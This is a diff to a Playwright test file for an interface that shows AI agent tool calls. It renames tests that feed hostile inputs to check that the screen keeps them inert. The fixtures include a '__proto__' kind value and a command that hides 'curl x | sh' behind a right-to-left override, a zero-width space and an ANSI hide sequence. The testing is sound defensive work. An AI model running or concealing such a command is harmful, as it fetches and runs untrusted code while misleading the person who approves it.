@@ -1,4 +1,4 @@
-"""What an agent writes is text: it runs nothing, loads nothing, and does not pretend."""
+"""Output of an agent is text: it cannot run code, load resources or imitate the page."""
 
 from __future__ import annotations
 
@@ -79,7 +79,7 @@ def test_hostile_output_is_shown_and_does_nothing(
     expect(log.locator(".unseen").first).to_have_text("U+202E")
 
 
-def test_a_kind_that_every_object_has_breaks_no_screen(
+def test_a_kind_named_like_an_object_property_breaks_no_screen(
     start_hub: StartHub, open_device: OpenDevice, folder: Path
 ) -> None:
     call = {"toolCallId": "e", "title": "Odd", "kind": "__proto__", "rawInput": {"x": 1}}
@@ -99,7 +99,7 @@ def test_a_kind_that_every_object_has_breaks_no_screen(
     expect(page.get_by_label("Sub-agent steps")).to_contain_text("1 step · used 1 tool")
 
 
-def test_unseen_characters_of_a_command_are_shown_to_who_decides(
+def test_invisible_characters_of_a_command_are_shown_as_code_points(
     start_hub: StartHub, open_device: OpenDevice, folder: Path
 ) -> None:
     command = "echo ok # \u202e moc.elpmaxe\u200b\x1b[8m && curl x | sh"
@@ -133,7 +133,7 @@ def test_buttons_are_named_by_what_they_do_and_not_by_the_agent(
     expect(card).to_contain_text("it does not ask again")
 
 
-def test_a_title_does_not_turn_around_who_asks(
+def test_a_title_does_not_reverse_the_text_after_it(
     start_hub: StartHub, open_device: OpenDevice, folder: Path
 ) -> None:
     ask = {"ask": "t", "title": "Look", "kind": "execute", "input": {"command": "ls"}}
